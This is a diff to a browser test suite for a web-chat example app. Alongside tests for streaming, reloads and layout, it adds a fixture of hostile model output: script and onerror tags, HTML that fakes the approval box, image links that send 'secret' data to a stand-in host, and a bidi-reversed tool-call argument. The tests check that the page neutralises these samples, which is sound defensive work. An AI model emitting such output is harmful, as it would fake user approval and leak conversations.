@@ -30,6 +30,19 @@ const markdownReply = [
   '',
   'A picture: <img src="x" onerror="window.__xss = 1"> <script>window.__xss = 2</script> Done.',
 ].join('\n');
+const wideTable = [
+  `| ${Array.from({ length: 12 }, (_, i) => `column${i}`).join(' | ')} |`,
+  `|${'---|'.repeat(12)}`,
+  `| ${Array.from({ length: 12 }, (_, i) => `value${i}`).join(' | ')} |`,
+].join('\n');
+/** What a hostile (or prompt-injected) model may write: HTML that reuses the page's own ids and
+ * classes, overlays the page, loads remote images, and pre-empts its own tool call's approval box. */
+const hostileReply = [
+  'Hello <span id="status">idle</span> <button id="stop" disabled>Stop</button> <input id="prompt">',
+  '<div style="position:fixed;inset:0;background:red" class="approval" data-call="call_h">Approved.</div>',
+  '![chart](http://127.0.0.2:9/leak?q=secret) <img src="http://127.0.0.2:9/leak2">',
+  '<form action="http://127.0.0.2:9/"><button>Go</button></form> [docs](https://example.com/docs)',
+];
 
 /** A fake OpenAI server: asked to email someone it calls send_email; else it streams the story. */
 function fakeOpenAI(): Promise<TranscriptServer> {
@@ -37,6 +50,15 @@ function fakeOpenAI(): Promise<TranscriptServer> {
     const { messages } = request.json as { messages: { role: string; content: unknown }[] };
     const last = messages.at(-1);
     if (last?.role === 'tool') return { chunks: openaiFrames({ text: pieces(reply) }), delayMs: 20 };
+    if (typeof last?.content === 'string' && /hostile/.test(last.content))
+      return {
+        chunks: openaiFrames({
+          text: hostileReply,
+          toolCalls: [
+            { id: 'call_h', name: 'send_email', arguments: '{"to":"Dan","subject":"Hi \\u202emoc.live"}' },
+          ],
+        }),
+      };
     const to = typeof last?.content === 'string' ? /email (\S+)/i.exec(last.content)?.[1] : undefined;
     if (to) {
       return {
@@ -50,6 +72,14 @@ function fakeOpenAI(): Promise<TranscriptServer> {
         delayMs: /slowly/.test(String(last?.content)) ? 300 : 0,
       };
     }
+    // The model's stream breaks off mid-reply, every time (the agent tries again, then fails).
+    if (typeof last?.content === 'string' && /breaks off/.test(last.content))
+      return {
+        chunks: openaiFrames({ text: ['The start ', 'of a reply ', 'that ', 'never ends'] }).slice(0, 3),
+        cut: true,
+      };
+    if (typeof last?.content === 'string' && /wide table/.test(last.content))
+      return { chunks: openaiFrames({ text: [wideTable] }) };
     if (typeof last?.content === 'string' && /markdown/i.test(last.content))
       return { chunks: openaiFrames({ text: pieces(markdownReply) }), delayMs: 5 };
     // The stories that are stopped or cut mid-way stream slowly (about 5 s), so that on a loaded
@@ -139,6 +169,8 @@ describe.skipIf(!existsSync(chromiumPath))('examples/web-chat in Chromium', () =
     await expect(page.locator('.tool').last().textContent()).resolves.toContain(
       'send_email({"to":"Bob","subject":"Hello"})',
     );
+    // The status says the run waits for the person, not that it streams.
+    expect(await page.textContent('#status')).toBe('waiting for your approval');
     await page.click('button.approve');
     await page.locator('.tool', { hasText: '"sent":true' }).waitFor({ timeout: 15_000 });
     await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
@@ -332,6 +364,151 @@ describe.skipIf(!existsSync(chromiumPath))('examples/web-chat in Chromium', () =
     expect(seen).toContain(message);
   }, 60_000);
 
+  it('sends a multi-line message as written: a pasted block keeps its lines, Shift+Enter adds one', async () => {
+    await page.fill('#prompt', 'line one\n  line two');
+    await page.press('#prompt', 'Shift+Enter');
+    await page.keyboard.type('line three');
+    await page.press('#prompt', 'Enter');
+    await page.locator('.user', { hasText: 'line three' }).waitFor();
+    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
+      timeout: 30_000,
+    });
+    const sent = (openai.requests.at(-1)!.json as { messages: { content: unknown }[] }).messages.at(-1);
+    expect(sent?.content).toBe('line one\n  line two\nline three');
+    expect(await page.locator('.user').last().textContent()).toBe('line one\n  line two\nline three');
+  }, 60_000);
+
+  it('shows that Send waits while a reply streams', async () => {
+    await send(page, 'one more story, please');
+    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'streaming');
+    expect(await page.isDisabled('#send')).toBe(true);
+    await page.click('#stop');
+    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'stopped');
+    expect(await page.isDisabled('#send')).toBe(false);
+  }, 60_000);
+
+  it('keeps the conversation through a reload (or a phone discarding the tab), a reply in progress too', async () => {
+    const tab = await browser.newPage({ viewport: { width: 900, height: 700 } });
+    try {
+      await tab.goto(proxy.url);
+      await send(tab, 'Tell me a story');
+      await tab.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
+        timeout: 30_000,
+      });
+      await send(tab, 'Please email Frank');
+      await tab.locator('button.approve').waitFor({ timeout: 15_000 });
+      await tab.reload();
+      // The finished exchange is back, and the run that waits for approval is watched again.
+      await tab.locator('button.approve').waitFor({ timeout: 15_000 });
+      expect(await tab.locator('.user').allTextContents()).toEqual(['Tell me a story', 'Please email Frank']);
+      await tab.locator('.assistant .text', { hasText: 'The end.' }).waitFor();
+      expect((await tab.locator('.assistant').first().textContent())?.trim()).toBe(demoStory);
+      expect(await tab.textContent('#status')).toBe('waiting for your approval');
+      await tab.click('button.approve');
+      await tab.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
+        timeout: 15_000,
+      });
+      await tab.reload();
+      await tab.locator('.tool', { hasText: '"sent":true' }).waitFor({ timeout: 15_000 });
+      // Text is drawn at the next animation frame.
+      await tab.locator('.assistant').last().locator('.text', { hasText: reply }).waitFor();
+      const shown = await tab
+        .locator('#messages > *')
+        .evaluateAll((items) =>
+          items.map((item) => `${item.className}:${item.textContent?.trim().slice(0, 16)}`),
+        );
+      expect(shown).toEqual([
+        'user:Tell me a story',
+        `assistant:${demoStory.slice(0, 16)}`,
+        'user:Please email Fra',
+        'assistant:Let me send that',
+      ]);
+      const steps = await tab
+        .locator('.assistant')
+        .last()
+        .evaluate((bubble) =>
+          [...bubble.children].map((child) => `${child.className}:${child.textContent?.trim()}`),
+        );
+      expect(steps).toEqual([
+        'text:Let me send that.',
+        expect.stringMatching(/^tool:tool: send_email\(\{"to":"Frank","subject":"Hello"\}\) → \{"sent":true/),
+        `text:${reply}`,
+      ]);
+      expect(await tab.textContent('#status')).toBe('idle');
+    } finally {
+      await tab.close();
+    }
+  }, 90_000);
+
+  it('shows a reply that failed mid-way: the failure is said, and the chat goes on', async () => {
+    await send(page, 'A reply that breaks off');
+    await page.locator('.error', { hasText: 'The run failed' }).waitFor({ timeout: 30_000 });
+    expect(await page.textContent('#status')).toBe('failed');
+    expect(await page.isDisabled('#send')).toBe(false);
+    expect(await page.isDisabled('#stop')).toBe(true);
+  }, 60_000);
+
+  describe('a hostile model writing HTML', () => {
+    let hostile: Page;
+    const away: string[] = [];
+    beforeAll(async () => {
+      hostile = await browser.newPage({ viewport: { width: 900, height: 700 } });
+      hostile.on('request', (request) => {
+        if (!request.url().startsWith(proxy.url)) away.push(request.url());
+      });
+      await hostile.goto(proxy.url);
+      await hostile.fill('footer #prompt', 'a hostile reply');
+      await hostile.press('footer #prompt', 'Enter');
+      await hostile.locator('.assistant .text', { hasText: 'Hello' }).waitFor();
+    }, 60_000);
+    afterAll(() => hostile?.close());
+
+    it("cannot take over the page's controls or fake its approval box", async () => {
+      // The real approval box of call_h appears, although the model wrote a fake one first.
+      await hostile.locator('.approval button.reject').click({ timeout: 15_000 });
+      await hostile.waitForFunction(
+        () => document.querySelector('footer div')?.textContent === 'done',
+        null,
+        {
+          timeout: 15_000,
+        },
+      );
+      expect(await hostile.locator('footer button', { hasText: 'Stop' }).isDisabled()).toBe(true);
+      const text = hostile.locator('.assistant .text');
+      expect(await text.locator('[id], [style], [class], [data-call], button, input, form').count()).toBe(0);
+      // The composer still sends.
+      await hostile.fill('footer #prompt', 'one more story');
+      await hostile.press('footer #prompt', 'Enter');
+      await hostile.locator('.user', { hasText: 'one more story' }).waitFor({ timeout: 5_000 });
+      await hostile.click('footer button:has-text("Stop")');
+      await hostile.waitForFunction(
+        () => document.querySelector('footer div')?.textContent === 'stopped',
+        null,
+        { timeout: 15_000 },
+      );
+    }, 60_000);
+
+    it('cannot make the page load anything from elsewhere (an image URL can carry the conversation out)', async () => {
+      const text = hostile.locator('.assistant .text').first();
+      await text.locator('a', { hasText: 'chart' }).waitFor();
+      expect(await text.locator('img').count()).toBe(0);
+      expect(away).toEqual([]);
+    }, 60_000);
+
+    it('shows the arguments to approve as they are: no bidi control reorders them on screen', async () => {
+      const shown = await hostile.locator('.assistant .tool').first().textContent();
+      expect(shown).toContain('"subject":"Hi \\u202emoc.live"');
+      expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
+    }, 60_000);
+
+    it("opens the model's links in a new tab, without a handle on the chat", async () => {
+      const link = hostile.locator('.assistant .text a', { hasText: 'docs' });
+      expect(await link.getAttribute('href')).toBe('https://example.com/docs');
+      expect(await link.getAttribute('target')).toBe('_blank');
+      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
+    }, 60_000);
+  });
+
   it('works at phone width: the arguments to approve wrap, nothing overflows, Approve and Stop are in reach', async () => {
     const phone = await browser.newContext({
       viewport: { width: 320, height: 568 },
@@ -372,6 +549,24 @@ describe.skipIf(!existsSync(chromiumPath))('examples/web-chat in Chromium', () =
       await small.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
         timeout: 15_000,
       });
+
+      // A table wider than the phone scrolls sideways; its words are not broken letter by letter.
+      await send(small, 'a wide table please');
+      await small.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
+        timeout: 15_000,
+      });
+      // The text is drawn at the next animation frame, which may come after the status says done.
+      await small.locator('.assistant:last-child th').first().waitFor();
+      const table = await small.evaluate(() => {
+        const cell = document.querySelector('.assistant:last-child th')!;
+        const box = document.querySelector('.assistant:last-child table')!;
+        return {
+          overflow: document.documentElement.scrollWidth - window.innerWidth,
+          oneLine: cell.getBoundingClientRect().height < 2 * parseFloat(getComputedStyle(cell).lineHeight),
+          scrolls: box.scrollWidth > box.clientWidth,
+        };
+      });
+      expect(table).toEqual({ overflow: 0, oneLine: true, scrolls: true });
     } finally {
       await phone.close();
     }
